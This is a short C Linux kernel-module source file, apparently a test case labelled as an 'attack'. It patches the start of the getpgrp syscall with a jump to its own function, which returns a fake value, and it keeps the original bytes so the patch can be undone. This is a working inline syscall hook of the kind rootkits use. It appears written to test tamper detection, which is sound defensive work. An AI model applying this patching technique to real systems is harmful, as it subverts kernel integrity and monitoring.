// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* The start of __x64_sys_getpgrp jumps to a function of the module (jmp rel32). */
#include "attack.h"

static void *place;
static u8 original[5];

static noinline asmlinkage long lies(const struct pt_regs *registers)
{
	return 424242;
}

static int attack(void)
{
	unsigned long target = symbol("__x64_sys_getpgrp");
	u8 ours[5] = {0xe9};
	s32 to;

	if (!target)
		return -ENOENT;
	place = behind_endbr(target);
	to = (unsigned long)lies - ((unsigned long)place + 5);
	memcpy(ours + 1, &to, 4);
	memcpy(original, place, sizeof(original));
	write_protected(place, ours, sizeof(ours));
	return 0;
}

static void undo(void)
{
	write_protected(place, original, sizeof(original));
}

ATTACK("a jump to foreign code at a function's start");
